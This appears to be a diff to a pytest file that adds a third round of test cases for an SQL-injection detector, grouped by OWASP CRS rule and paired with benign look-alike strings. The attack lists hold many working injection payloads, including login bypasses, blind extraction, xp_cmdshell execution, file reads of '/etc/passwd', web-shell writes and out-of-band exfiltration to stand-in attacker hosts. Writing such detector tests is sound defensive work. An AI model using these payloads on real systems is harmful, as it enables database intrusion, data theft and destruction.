@@ -1367,11 +1367,386 @@ ROUND2_FIXED_FP: list[tuple[str, str]] = [
 ]
 
 
+# --- Round 3: CRS 4.25 as the checklist (942151's function vocabulary, 942550 JSON in SQL, 942540/942521 quote
+# then `;`, 942362 DDL/DCL, 942321 procedures in headers, out-of-band, time-based, hex/char encodings, MySQL comment
+# obfuscation, stacked queries, MSSQL/Oracle/SQLite/PostgreSQL/MySQL specifics). Own payloads, no CRS test string.
+# First pass (the code before this round): 97 of 105 caught, 11 of 99 benign flagged (6 of them bare probes --
+# `@@datadir`, `drop table` -- that were not benign and were dropped; 2 flagged only by rce/xss, moved to
+# ROUND3_NO_SQLI). On the final lists the code before this round catches 98 of 104 and flags 6 of 94 (three DDL
+# searches added after the first pass among them); after: 104 of 104, 0 of 94. Not asserted: `1;open c` (942321's
+# `; open cursor` fragment: without DECLARE it runs nothing, and `; open …` is everyday English).
+ROUND3_ATTACKS: list[tuple[str, str, str]] = [
+    # 942151 SQL function vocabulary of CRS 4 (PostgreSQL JSON, MySQL date/network, Oracle raw/dump)
+    ("942151", "q", "1 and json_typeof('{\"a\":1}')='object'"),
+    ("942151", "cookie", "' and jsonb_typeof(to_jsonb(current_user))='string'--"),
+    ("942151", "q", "1 or coercibility(user())=3"),
+    ("942151", "form", "' or collation(version()) like 'utf8%'-- -"),
+    ("942151", "q", "1 and rawtohex(user)>'41'"),
+    ("942151", "json", "' and dump(user) like '%65%'--"),
+    ("942151", "q", "1 and inet_aton('127.0.0.1')>0"),
+    ("942151", "hdr", "' and uuid_short()>0 and ''='"),
+    ("942151", "q", "1 and datediff(now(),0)>1"),
+    ("942151", "path", "5 and weekday(now())<7"),
+    ("942151", "q", "' and row_to_json(row(1))::text like '%'--"),
+    ("942151", "form", "' and getpgusername()='postgres'--"),
+    ("942151", "q", "1 and yearweek(now())>0"),
+    ("942151", "jsonu", "x' or hextoraw('41')=utl_raw.cast_to_raw('A')--"),
+    ("942151", "q", "1 and json_array_length(json_build_array(1,2))=2"),
+    ("942151", "cookie", "1' and asciistr(user)>'A"),
+    # 942550 JSON operators / functions inside SQL
+    ("942550", "q", "' or json_extract('{\"a\":1}','$.a')=1--"),
+    ("942550", "form", "1 and '{\"a\":2}'::jsonb @> '{\"a\":2}'"),
+    ("942550", "q", "' or data->>'$.role'='admin'#"),
+    ("942550", "json", "1 and '[1,2]'::jsonb ?| array['1']"),
+    ("942550", "q", "' or json_valid('{}')-- -"),
+    ("942550", "cookie", "' or '{\"r\":\"a\"}' ->> '$.r' = 'a'--"),
+    # 942540 / 942521 quote breakouts ending a statement
+    ("942540", "form", "admin';"),
+    ("942540", "q", "bob\" ;"),
+    ("942540", "json", "x'; --"),
+    ("942521", "form", "admin' or 'a'<>'b"),
+    # 942362 / 942350 DDL and data manipulation after a breakout or at the start
+    ("942362", "q", "1;alter table users add column pwn int--"),
+    ("942362", "form", "'; create user eve identified by 'p4ss'--"),
+    ("942362", "q", "'; grant all privileges on *.* to 'eve'@'%'--"),
+    ("942362", "cookie", "1; rename table users to users_old--"),
+    ("942362", "q", "x'; update users set role='admin' where name='bob'--"),
+    ("942362", "hdr", "'; alter login sa enable--"),
+    ("942362", "q", "1; alter user postgres with password 'x'--"),
+    # 942321 procedure / function injection (also in headers)
+    ("942321", "ua", "Mozilla/5.0';declare @q varchar(99);set @q=0x77616974666f722064656c61792027303a303a3527;exec(@q)--"),
+    ("942321", "referer", "'; create function sys_exec returns int soname 'udf.so'--"),
+    ("942321", "ua", "' and 1=(select 1 from pg_sleep(5))--"),
+    ("942321", "q", "2 and 2::bigint=2"),
+    ("942321", "xff", "10.0.0.8' and sleep(7)-- -"),
+    # out-of-band exfiltration
+    ("oob", "q", "'; exec master..xp_dirtree '\\\\abc.attacker.example\\x'--"),
+    ("oob", "form", "' || utl_http.request('http://x.example/'||user) || '"),
+    ("oob", "q", "1 and load_file(concat('\\\\\\\\',version(),'.x.example\\\\a'))"),
+    ("oob", "q", "'; copy (select '') to program 'nslookup x.example'--"),
+    ("oob", "json", "1;copy users to '/tmp/u.csv'--"),
+    ("oob", "cookie", "' and dblink_connect('host=x.example user=a')='ok'--"),
+    ("oob", "q", "' union select utl_inaddr.get_host_address('x.example') from dual--"),
+    # time-based blind
+    ("time", "q", "1 and (select 1 from (select sleep(5))a)"),
+    ("time", "form", "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))--"),
+    ("time", "q", "1 and 1=dbms_pipe.receive_message(('a'),10)"),
+    ("time", "q", "if(now()=sysdate(),sleep(5),0)"),
+    ("time", "hdr", "'xor(if(now()=sysdate(),sleep(5),0))xor'"),
+    ("time", "q", "1 rlike sleep(1)"),
+    ("time", "path", "1'-sleep(5)-'"),
+    ("time", "q", "1 and elt(1,sleep(5))"),
+    ("time", "form", "'; do $$ begin perform pg_sleep(5); end $$--"),
+    ("time", "q", "1) and (select*from(select(sleep(5)))a)-- -"),
+    # hex / char encodings
+    ("942450", "q", "' union select 1,0x61646d696e-- -"),
+    ("942450", "q", "1 and user()=char(114,111,111,116)"),
+    ("942450", "form", "' and password=unhex('61646d696e')#"),
+    ("942450", "q", "' union select chr(65)||chr(66)--"),
+    ("942450", "cookie", "x' or name=x'61646d696e'-- -"),
+    ("942450", "q", "1 and e'\\x41'='A'"),
+    # MySQL comment / space obfuscation
+    ("942500", "qraw", "1/*!UNION*//*!SELECT*/1,2"),
+    ("942500", "q", "1\nunion\nselect\n1,2"),
+    ("942500", "q", "1 /*!50000and*/ 1=1"),
+    ("942500", "q", "'/**/or/**/1/**/=/**/1#"),
+    ("942500", "q", "1 union#x\nselect 1,2"),
+    ("942500", "q", "1 -- x\nunion select 1"),
+    ("942500", "q", "1 union(select(1),(2))"),
+    ("942500", "q", "1 union distinctrow select 1"),
+    ("942500", "qraw", "-1+uNiOn+aLl+sElEcT+1,2"),
+    ("942500", "q", "1%0Aunion%0Aselect%0A1"),
+    # stacked queries
+    ("stacked", "q", "1; drop table users"),
+    ("stacked", "form", "'; exec sp_configure 'show advanced options',1;reconfigure--"),
+    ("stacked", "q", "1;select * from users"),
+    ("stacked", "json", "1); truncate table sessions;--"),
+    # MSSQL
+    ("mssql", "q", "1 and 1=convert(int,@@version)"),
+    ("mssql", "q", "' and 1=cast(db_name() as int)--"),
+    ("mssql", "form", "';exec('sel'+'ect 1')--"),
+    ("mssql", "q", "1 union select null,name from master..sysdatabases--"),
+    ("mssql", "q", "' group by users.id having 1=1--"),
+    ("mssql", "q", "';exec sp_addsrvrolemember 'eve','sysadmin'--"),
+    ("mssql", "q", "1;select * from openrowset('SQLOLEDB','x';'sa';'pw','select 1')"),
+    # Oracle
+    ("oracle", "q", "' and 1=utl_inaddr.get_host_name((select user from dual))--"),
+    ("oracle", "q", "' union select banner,null from v$version--"),
+    ("oracle", "q", "' and ctxsys.drithsx.sn(1,(select user from dual))=1--"),
+    ("oracle", "q", "1 and rownum=1"),
+    ("oracle", "form", "' || (select dbms_xmlgen.getxml('select user from dual') from dual) || '"),
+    # SQLite
+    ("sqlite", "q", "' union select sql from sqlite_master--"),
+    ("sqlite", "q", "' and (select count(*) from pragma_table_info('users'))>0--"),
+    ("sqlite", "form", "'; attach database '/var/www/x.php' as p; create table p.t (d text);--"),
+    ("sqlite", "q", "1 and typeof(1)='integer'"),
+    ("sqlite", "q", "' union select group_concat(tbl_name) from sqlite_schema--"),
+    # PostgreSQL
+    ("pgsql", "q", "' and 1=cast((select version()) as int)--"),
+    ("pgsql", "q", "1;select $$a$$"),
+    ("pgsql", "q", "' union select string_agg(usename,',') from pg_user--"),
+    ("pgsql", "q", "' and current_setting('is_superuser')='on'--"),
+    ("pgsql", "q", "';select lo_import('/etc/passwd')--"),
+    ("pgsql", "form", "1 and 1=(select count(*) from pg_stat_activity)"),
+    # MySQL
+    ("mysql", "q", "1 into outfile '/var/www/s.php'"),
+    ("mysql", "q", "' union select 1,@@datadir-- -"),
+    ("mysql", "q", "1 and ord(mid(user(),1,1))>64"),
+    ("mysql", "q", "'+sleep(5)+'"),
+    ("mysql", "q", "' and extractvalue(1,concat(0x7e,(select @@version)))--"),
+    ("mysql", "q", "1 and (select 1 from mysql.user limit 1)=1"),
+]
+ROUND3_BENIGN: list[tuple[str, str]] = [
+    ("q", "json_typeof function postgres"), ("q", "datediff in excel"), ("form", "What does weekday() return in Excel?"),
+    ("q", "inet_aton"), ("form", "Converting IPs with inet_aton and inet_ntoa"), ("q", "uuid short"),
+    ("q", "row to json"), ("form", "I'd like to dump my old collation of vinyl"), ("q", "collation of wines"),
+    ("form", "The quote (see above) is from O'Brien"), ("form", "Quote: 'Always be closing'"), ("q", "hex to raw converter"),
+    ("q", "log10 of 100"), ("q", "log2(8)"), ("form", "=DATEDIFF(A2,B2,\"d\")"), ("form", "=WEEKDAY(A1)"),
+    ("q", "microsecond timer"), ("q", "monthname"), ("form", "Starts with 'A' and ends with 'Z'"),
+    ("q", "ends_with"), ("form", "startswith('http') in python"), ("q", "str.startswith(\"a\")"),
+    ("json", "{\"role\": \"admin\", \"active\": true}"), ("form", "data->>'name' operator in postgres docs"),
+    ("q", "a -> b"), ("form", "Cost: $5 -> $4"), ("q", "arrow => fn"),
+    ("form", "Hi Bob; see you at 5"), ("form", "O'Neil; Smith; Brown"), ("form", "It's fine;"),
+    ("form", "Don't; please"), ("q", "the \"best\"; the worst"),
+    ("form", "Please alter my order: add a table lamp"), ("form", "We'll create a user account for you"),
+    ("form", "Grant all staff access to the wiki"), ("form", "rename the table tab"), ("form", "update my profile picture"),
+    ("form", "Declare your items at customs"), ("form", "We open at 9; close at 5"),
+    ("form", "Cheers from 127.0.0.1 dev box"), ("xff", "203.0.113.7, 198.51.100.2"),
+    ("ua", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"),
+    ("referer", "https://www.google.com/search?q=sleep+5+hours+a+night"), ("q", "copy to clipboard"),
+    ("form", "copy (a) to program folder"), ("q", "program copy paste"), ("form", "\\\\fileserver\\share\\docs"),
+    ("q", "sleep 5 hours"), ("form", "Can't sleep (5 nights now)"), ("q", "like upper hex"), ("q", "randomblob"),
+    ("form", "$$ money $$"), ("form", "Price $$5"), ("q", "perform do begin end"),
+    ("q", "0x1F600"), ("q", "color 0xff00ff"), ("form", "char(10) is a newline"), 
+    ("form", "She wrote x'61' on the board"), ("q", "E'cole"), ("q", "1/2 cup"),
+    ("form", "/* TODO */ fix this"), ("q", "union square select hotel"), ("form", "UNION JACK select colours"),
+    ("q", "1\nunion street\nselect apartments"), ("form", "trade union select committee"),
+    ("form", "1; then drop the table leaf"), ("form", "truncate table text in word"), ("q", "create table in excel"), ("form", "drop table and chairs"), ("form", "create database for my shop"),
+    ("q", "convert int to string"), ("form", "cast iron pan, db name: shop"), ("q", "group by having sql tutorial"),
+    ("form", "Master bedroom..sys"), ("q", "v$version oracle meaning"), ("q", "rownum"),
+    ("form", "sqlite master class"), ("q", "pragma table info"), ("form", "attach database file to email"),
+    ("q", "typeof null javascript"), ("q", "version cast"), ("form", "Current setting: 'is_superuser' off"),
+    ("q", "pg stat activity"), ("q", "ord mid user"),
+    ("form", "Team+sleep+5"), ("q", "extract value"), 
+    ("q", "https://shop.example/p?id=5&sort=price"), ("form", "Tom & Jerry's \"Best\" (2024)"),
+    ("form", "SKU: AB-12'3"), ("q", "5' 9\" tall"),
+    ("form", "1) and 2) are required"), ("q", "C# or F#"),
+    ("q", "hello;world"), ("form", "Rock 'n' roll; jazz"),
+]
+
+# Round 3, second batch (sqlmap tampers, error-based extraction, ORDER BY / LIMIT / INSERT contexts, rarer carriers),
+# written after the first batch's fixes: 47 of 48 caught and 1 of 40 benign flagged on first pass (`1 into @a,@b`
+# missed; `min(1, 2) = 1 in math` flagged); 48 of 48 and 0 after.
+ROUND3B_ATTACKS: list[tuple[str, str, str]] = [
+    # sqlmap tampers CRS 4's obfuscation rules (942500/942200/942440) aim at
+    ("tamper", "q", "1 and mid(version() from 1 for 1)='5'"),
+    ("tamper", "q", "1 union select 1 limit 1 offset 0"),
+    ("tamper", "qraw", "%EF%BC%87 or 1=1-- -"),
+    ("tamper", "qraw", "1 and 1=1%00"),
+    ("tamper", "q", "-.1union select 1,2"),
+    ("tamper", "q", "1 and greatest(ascii(mid(user(),1,1)),64)=64"),
+    ("tamper", "q", "1 and least(ascii(mid(user(),1,1)),64)=64"),
+    ("tamper", "q", "' and {fn concat('a','b')}='ab'--"),
+    ("tamper", "form", "' and get_lock('x',5)--"),
+    ("tamper", "q", "1 and 2>1-- sp_password"),
+    ("tamper", "q", "1 union select 1 from information_schema/**/.tables"),
+    ("tamper", "q", "1 and case when 1=1 then sleep(5) else 0 end"),
+    ("tamper", "qraw", "1%09union%0bselect%0c1"),
+    ("tamper", "q", "1 and 2 not between 0 and 1"),
+    ("tamper", "q", "1 and user() like 'root%'"),
+    ("tamper", "q", "1 and user() rlike '^root'"),
+    ("tamper", "qraw", "1/*!30874and 2>1*/"),
+    ("tamper", "qraw", "1 union%23abc%0aselect 1"),
+    ("tamper", "qraw", "1--nVNaVoPYeva%0aunion--x%0aselect 1"),
+    ("tamper", "q", "2.0union select 1,2"),
+    ("tamper", "q", "1 && 1"),
+    ("tamper", "q", "1 || 2=2"),
+    # error-based extraction
+    ("error", "q", "1 and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
+    ("error", "cookie", "' and exp(~(select * from (select user())a))--"),
+    ("error", "q", "' and polygon((select*from(select*from(select user())a)b))--"),
+    ("error", "form", "' and json_keys((select convert((select user()) using utf8)))--"),
+    ("error", "q", "' and gtid_subset(user(),1)--"),
+    ("error", "q", "1 and updatexml(null,concat(0x0a,version()),null)"),
+    ("error", "q", "' and 1=convert(int,(select top 1 table_name from information_schema.tables))--"),
+    ("error", "json", "1 and 1=ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))"),
+    # ORDER BY / LIMIT / INSERT contexts
+    ("context", "q", "(case when (1=1) then id else price end)"),
+    ("context", "q", "if(2>1,name,email)"),
+    ("context", "q", "name,(select sleep(3))"),
+    ("context", "q", "1,extractvalue(1,concat(0x7e,user()))"),
+    ("context", "form", "x',(select password from users limit 1))-- -"),
+    ("context", "q", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
+    ("context", "q", "1 into @a,@b"),
+    ("context", "q", "name asc, (select 1 from dual where 1=1)"),
+    # carriers: Accept-Language, base64 cookie, GraphQL, filename, XML, multipart, double encoding, entities
+    ("carrier", "acceptlang", "en-GB' and (select 1 from pg_sleep(4))--"),
+    ("carrier", "b64cookie", "7 union all select null,version()-- -"),
+    ("carrier", "gql", "x' or 2>1-- -"),
+    ("carrier", "filename", "a'+(select sleep(5))+'.jpg"),
+    ("carrier", "xml", "7' and extractvalue(1,concat(0x7e,database()))-- -"),
+    ("carrier", "multipart", "t' union select username,password from admins-- -"),
+    ("carrier", "q2", "1' and ascii(substr(user(),1,1))>96-- -"),
+    ("carrier", "html", "' or name = 'admin' -- "),
+    ("carrier", "referer", "3 and 1=(select count(*) from all_users)"),
+    ("carrier", "formkey", "0) or 1=1 union select 1 -- "),
+]
+ROUND3B_BENIGN: list[tuple[str, str]] = [
+    ("q", "mid-century sofa from 1950 for sale"), ("q", "limit 1 per customer"), ("form", "Greatest hits (2024 remaster)"),
+    ("q", "least squares (ols) regression"), ("form", "In case the parcel is late, then notify me"),
+    ("q", "rand() in excel"), ("form", "fn + F5 on a laptop"), ("q", "get lock screen"), ("form", "sp password reset"),
+    ("q", "information schema"), ("form", "Use Ctrl+F; then type the word"), ("q", "between 2 and 5 days"),
+    ("q", "like new, boxed"), ("form", "1 and 2 bedroom flats"), ("q", "user like me"), ("form", "1 || 2 players"),
+    ("q", "offset printing"), ("form", "Exp. date 10/26"), ("q", "polygon count 3d model"), ("q", "json keys order"),
+    ("form", "Convert int to varchar in report"), ("q", "Order by price, then name"), ("q", "price high to low desc"),
+    ("q", "title asc"), ("form", "If 1=1 in logic class, what is it called?"), ("acceptlang", "en-GB,en;q=0.9,fr;q=0.8"),
+    ("filename", "Résumé O'Brien (final).pdf"), ("filename", "photo_2024-05-01 (1).jpg"), ("gql", "O'Reilly Media"),
+    ("xml", "Smith & Sons 'Ltd'"), ("multipart", "Q3 report: sales up 5% (vs. Q2)"), ("referer", "https://news.example/?p=3&and=1"),
+    ("form", "Note: 'x' and 'y' are variables"), ("form", "She said 'hi' -- then left"), ("q", "1.0 union of sets"),
+    ("form", "A ∪ B select all that apply"), ("q", "case 1=1 closed"), ("form", "min(1, 2) = 1 in math"),
+    ("q", "sleep number bed"), ("form", "version 2.0 (beta) and 3.1"),
+]
+
+# Round 3, third batch (942180/942260/942340/942520 login bypasses, 942190 MSSQL, 942240 charset switch, 942350 UDF,
+# more per-DBMS probes): first pass 54 of 56 caught (missed PostgreSQL `similar to`, MySQL `(@x:=1)=1`), 2 of 34
+# benign flagged (`It's true or false`, `@@mentions in slack`); 56 of 56 and 0 after.
+ROUND3C_ATTACKS: list[tuple[str, str, str]] = [
+    # 942180/942260/942340/942520/942540 authentication bypass in a login form
+    ("auth", "form", "admin' #"), ("auth", "form", "admin')-- -"), ("auth", "form", "admin' or '1'='1'/*"),
+    ("auth", "form", "') or true--"), ("auth", "form", "' or true#"), ("auth", "json", "\" or true--"),
+    ("auth", "form", "x'or''='"), ("auth", "form", "'=''or'"), ("auth", "form", "' or 1 --"),
+    ("auth", "form", "1' or '1'='1' limit 1 -- "), ("auth", "form", "' or username like '%"),
+    ("auth", "form", "admin' and password like '%'--"), ("auth", "form", "' or 0=0 #"), ("auth", "form", "')) or (('b'='b"),
+    ("auth", "form", "' || '1'='1"), ("auth", "form", "admin'/*"), ("auth", "form", "' or 1 in (1)--"),
+    ("auth", "form", "' or 'a' between 'a' and 'b'--"), ("auth", "form", "' or true is true--"), ("auth", "form", "' or not false--"),
+    # 942190 MSSQL code execution and information gathering
+    ("mssql", "q", "' union select @@servername--"), ("mssql", "q", "' and 1=(select is_srvrolemember('sysadmin'))--"),
+    ("mssql", "q", "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--"),
+    ("mssql", "q", "' union select name from sys.databases--"), ("mssql", "cookie", "' and host_name()='web01'--"),
+    ("mssql", "q", "1 union select loginame from master..sysprocesses"), ("mssql", "q", "';exec master.dbo.xp_cmdshell 'whoami'--"),
+    ("mssql", "form", "'; exec('xp_cmdshell ''whoami''')--"),
+    # 942240 charset switch
+    ("942240", "q", "'; set names gbk--"), ("942240", "q", "' collate latin1_general_cs_as--"),
+    ("942240", "q", "1 and 1=convert(user() using latin1)"),
+    # 942350 UDF and file writes
+    ("942350", "form", "'; create function do_system returns integer soname 'raptor_udf2.so'--"),
+    ("942350", "q", "' union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/u.so'--"),
+    ("942350", "q", "'; select sys_exec('id')--"),
+    # Oracle
+    ("oracle", "q", "' and (select count(*) from all_users)>1--"), ("oracle", "q", "x'||(select user from dual)||'"),
+    ("oracle", "q", "' and 1=(select 1 from dual where exists(select * from user_tables))--"),
+    ("oracle", "form", "' || dbms_java.runjava('oracle/aurora/util/Wrapper id') || '"),
+    # SQLite
+    ("sqlite", "q", "'||sqlite_version()||'"), ("sqlite", "q", "' union select name from pragma_database_list--"),
+    # PostgreSQL
+    ("pgsql", "q", "';select pg_read_file('/etc/passwd',0,200)--"), ("pgsql", "q", "'||pg_sleep(5)--"),
+    ("pgsql", "q", "' and 1=(select 1 from pg_user where usesuper)--"), ("pgsql", "q", "' and version() ~ 'PostgreSQL'--"),
+    ("pgsql", "q", "' and current_user ~* '^post'--"), ("pgsql", "q", "1 and 'a' similar to 'a'"),
+    ("pgsql", "form", "'; create or replace function f() returns void as $$ select 1 $$ language sql--"),
+    ("pgsql", "q", "' and (select setting from pg_settings where name='data_directory') like '/%'--"),
+    # MySQL
+    ("mysql", "q", "' and (select substr(table_name,1,1) from information_schema.tables limit 1)='a'--"),
+    ("mysql", "q", "' and @@version_comment like '%'--"), ("mysql", "q", "' and 'a' sounds like 'a'--"),
+    ("mysql", "q", "1 and 1 <=> 1"), ("mysql", "q", "1 and not 1<>1"), ("mysql", "q", "1 and (@x:=1)=1"),
+    ("mysql", "q", "'; handler users open; handler users read first--"), ("mysql", "q", "'/*!50000union*/ select 1-- -"),
+]
+ROUND3C_BENIGN: list[tuple[str, str]] = [
+    ("form", "Admin -- read first"), ("form", "O'Hara or O'Neil"), ("form", "It's true or false"), ("form", "Tom's 'x' factor"),
+    ("form", "It's 'hello' -- a greeting"), ("form", "'Twas the night before"), ("form", "@@mentions in slack"),
+    ("q", "name ~ regex"), ("form", "Set names for the team"), ("q", "collate pages when printing"),
+    ("form", "sounds like a plan"), ("q", "similar to this item"), ("q", "dual sim phone"), ("form", "true is true in logic"),
+    ("q", "handler users forum"), ("q", "pg 5 of 12"), ("q", "1 <=> 1 spaceship operator in php"), ("q", "0-0 draw"),
+    ("form", "I'm in (1) place"), ("form", "Ain't it true?"), ("form", "Rock 'n' roll or jazz"), ("form", "user's guide (PDF)"),
+    ("form", "Sales' report || draft"), ("q", "version ~ 2.1"), ("form", "Don't panic -- it's fine"), ("form", "Who's there? -- me"),
+    ("form", "He's 6'1\" or so"), ("q", "'s-Hertogenbosch"), ("form", "rock'n'roll"), ("form", "Ctrl + ' to toggle"),
+    ("form", "see 'Sleep' (Max Richter)"), ("q", "dbo.Orders table"), ("form", "y'all're awesome"), ("form", "'1' stands for yes"),
+]
+
+# Round 3, fourth batch (SQL in a REST path segment, 942210 chained statements, 942370 concatenation probes): first
+# pass 18 of 20 caught, 0 of 16 benign flagged; the two misses are not asserted: `1 div 1=1` (an arithmetic truth
+# with no SQL around it reads like `1*1=1`) and `x' 'y` (adjacent-literal concatenation: prose writes `x' 'y` too).
+ROUND3D_ATTACKS: list[tuple[str, str, str]] = [
+    # SQL in the URL path (942101: request file name), as REST routes pass an id segment into a query
+    ("path", "path", "1 union select 1,version()-- -"), ("path", "path", "7' or 'a'='a"), ("path", "path", "1;select pg_sleep(5)--"),
+    ("path", "path", "12 and sleep(5)"), ("path", "path", "1/**/union/**/select/**/1,2"), ("path", "path", "-1 or 2>1"),
+    ("path", "path", "1) and extractvalue(1,concat(0x7e,user()))-- -"),
+    # chained statements after a line comment and a newline, variables set from subqueries (942210)
+    ("942210", "q", "1;-- x\ndrop table users"), ("942210", "q", "1#\nupdate users set admin=1"),
+    ("942210", "form", "1; declare @t varchar(99) set @t=(select top 1 name from sysobjects)--"),
+    ("942210", "q", "1/**/and/**/2>1"), ("942210", "q", "1 and 3 between 1 and 5"),
+    ("942210", "q", "1;set @a=0x41;--"),
+    # string concatenation probes (942370, 942430): the value is rebuilt from pieces
+    ("942370", "q", "ad'||'min"), ("942370", "q", "ad'+'min"), ("942370", "form", "a'||chr(109)||'in"),
+    ("942370", "q", "1'*1*'1"), ("942370", "q", "abc'^0^'"),
+]
+ROUND3D_BENIGN: list[tuple[str, str]] = [
+    ("path", "about-us"), ("path", "2024-summer-sale"), ("path", "O'Reilly-books"), ("path", "sleep-better-guide"),
+    ("path", "select-your-size"), ("path", "union-jack-mug"), ("path", "1 and 2 bedroom flats"),
+    ("q", "1 and 3 bedroom"), ("q", "ad + min"), ("form", "It's 'good'||'bad'"), ("form", "Rock 'n' roll 'n' blues"),
+    ("form", "x' y' z'"), ("form", "f'(x) = 2x"), ("form", "f''(x) and g'(x)"), ("q", "1*1=1"), ("form", "3 div 2 in python is //"),
+]
+
+# Round 3, fifth batch: this round's new rules (function vocabulary, COPY, INTO @var, `:=`, SIMILAR TO, DDL shape)
+# through encodings and carriers, beside near-misses of the same rules. Written after the fixes: 13 of 13 caught;
+# 2 of 18 benign flagged by sqli (`Use log10(x) and log2(x) for scale`, `alter table height by 2 cm`), 0 after.
+ROUND3E_ATTACKS: list[tuple[str, str, str]] = [
+    # the round's new rules through encodings and carriers
+    ("942151", "jsonu", "1 and json_length(json_array(1,2))=2"),
+    ("942151", "html", "' and timediff(now(),sysdate())=0-- -"),
+    ("942151", "b64", "1 or to_json(current_user)::text like '%a%'"),
+    ("942151", "q2", "' and inet6_ntoa(inet6_aton('::1'))='::1'-- -"),
+    ("942151", "xmlraw", "1 and last_day(now())>0"),
+    ("942151", "gql", "x' and uncompressed_length(compress(user()))>0-- -"),
+    ("copy", "form", "1; copy (select current_user) to '/tmp/who.txt'--"),
+    ("copy", "q2", "5;copy t from program 'id'--"),
+    ("into", "q", "(select 1) into @x"),
+    ("assign", "cookie", "1 and (@v:=version()) like '8%'"),
+    ("similar", "hdr", "2 or user similar to 'adm%'"),
+    ("ddl", "html", "1; create table pwn (x text)--"),
+    ("ddl", "json", "'; drop table if exists audit_log;--"),
+]
+ROUND3E_BENIGN: list[tuple[str, str]] = [
+    ("q", "row_to_json(t)"), ("form", "jsonb_set(data, '{a}', '1')"),
+    ("q", "datediff(day, start, end)"), ("q", "timediff"), ("form", "to_json(obj) in ruby"), ("q", "inet_aton(ip)"),
+    ("form", "Use log10(x) and log2(x) for scale"), ("q", "weekday(date) excel"), ("form", "dump(obj) in python"),
+    ("form", "create table from selection in excel"), ("q", "drop table on floor"), ("form", "alter table height by 2 cm"),
+    ("form", "x := x + 1 in pascal"), ("form", "@alice:=@bob"), ("q", "similar to iphone"), ("form", "copy to 'Documents' folder"),
+    ("form", "Please copy (the attached) to 'finance'"), ("form", "true or false: the sky is blue"),
+]
+
+# Round 3, sixth batch: escaped quotes (942522), bracketed operands without blanks, exotic blanks and quote
+# encodings (raw 0xA0 / 0x0B / NUL, overlong and GBK-eaten quotes, U+02BC), MSSQL's `!<`/`!>`. First pass 12 of 14
+# (the raw 0xA0 blank of sqlmap's space2mysqlblank was read as part of a word; `1 or 3 !< 2`: `!<` was no
+# comparison), 0 of 11 benign flagged; 14 of 14 and 0 after.
+ROUND3F_ATTACKS: list[tuple[str, str, str]] = [
+    # 942522/942521 escaped quotes, bracketed operands without blanks, exotic blanks and quote encodings
+    ("942522", "form", "admin\\' or 1=1#"), ("942522", "json", "\\\" or \\\"\\\"=\\\""), ("942200", "q", "1'and(1)=(1)#"),
+    ("942200", "q", "'or(1)=(1)--"), ("942200", "q", "'||(1)=(1)||'"), ("942200", "q", "'and(select(1))='1"),
+    ("blank", "qraw", "1'%0band%0b1=1-- -"), ("blank", "qraw", "1'%a0or%a01=1-- -"), ("blank", "qraw", "'%00' or 1=1--"),
+    ("quote", "qraw", "%c0%a7 or 1=1-- -"), ("quote", "qraw", "%bf%27 or 1=1-- -"), ("quote", "q", "x\u02bc or 2>1-- -"),
+    # 942131: MSSQL's not-less / not-greater operators in a tautology
+    ("942131", "q", "1 or 3 !< 2"), ("942131", "cookie", "' or 2 !> 3--"),
+]
+ROUND3F_BENIGN: list[tuple[str, str]] = [
+    ("json", "It\\'s fine"), ("form", "C:\\Users\\O'Brien\\docs"), ("form", "a\\\"b"), ("form", "Rock\\'n\\'roll"),
+    ("q", "don\u02bct stop"), ("form", "5\u02bc10\u02ba tall"), ("qraw", "Prix%a0:%a05%a0EUR"), ("qraw", "l%92or%a0et%a0l%92argent"),
+    ("qraw", "Caf%e9%a0O%92Brien%a0or%a0Dunne"), ("form", "Great!> see you"), ("form", "wow!< 3 left"),
+]
+
+# Benign values another family flags (rce: `;` between words, a PHP-like call; xss: `alert()`); the SQL detector
+# must stay silent on them.
+ROUND3_NO_SQLI: list[tuple[str, str]] = [("form", "select all; copy; paste"), ("form", "if (now() > deadline) alert()"),
+                                         ("q", "json_build_object('a', 1)")]
+
+
 # Round 1 (free-form) and round 2 (one class per CRS rule) stay separate lists for the per-round first-pass numbers;
 # one test of each kind runs over both.
-_ALL_ATTACKS = [(_id(a), a) for a in ATTACKS] + [(f"{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in CLASS_ATTACKS]
-_ALL_BENIGN = [(_id(b), b) for b in BENIGN + ROUND2_BENIGN]
-_NO_SQLI = [(_id(b), b) for b in CODE_SNIPPETS + ROUND2_FIXED_FP]
+_R3_ATTACKS = ROUND3_ATTACKS + ROUND3B_ATTACKS + ROUND3C_ATTACKS + ROUND3D_ATTACKS + ROUND3E_ATTACKS + ROUND3F_ATTACKS
+_R3_BENIGN = ROUND3_BENIGN + ROUND3B_BENIGN + ROUND3C_BENIGN + ROUND3D_BENIGN + ROUND3E_BENIGN + ROUND3F_BENIGN
+_ALL_ATTACKS = [(_id(a), a) for a in ATTACKS] + [(f"{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in CLASS_ATTACKS] + \
+    [(f"r3-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in _R3_ATTACKS]
+_ALL_BENIGN = [(_id(b), b) for b in BENIGN + ROUND2_BENIGN] + [(f"r3-{_id(b)}", b) for b in _R3_BENIGN]
+_NO_SQLI = [(_id(b), b) for b in CODE_SNIPPETS + ROUND2_FIXED_FP + ROUND3_NO_SQLI]
 
 
 @pytest.mark.parametrize("item", [a for _, a in _ALL_ATTACKS], ids=[i for i, _ in _ALL_ATTACKS])
@@ -1413,3 +1788,11 @@ def test_where_followed_by_prose_is_not_a_clause(value):
 def test_where_followed_by_a_condition_is_a_clause(value):
     f = sqli.analyze(value)
     assert f is not None and f.score >= THRESHOLD
+
+
+def test_round3_sets_are_distinct():
+    r3 = [a[1:] for a in _R3_ATTACKS]
+    assert len(set(r3)) == len(r3) >= 200
+    assert len(set(_R3_BENIGN)) == len(_R3_BENIGN) >= 160
+    assert not set(r3) & set(ATTACKS + [c[1:] for c in CLASS_ATTACKS])
+    assert not set(_R3_BENIGN) & set(BENIGN + ROUND2_BENIGN)
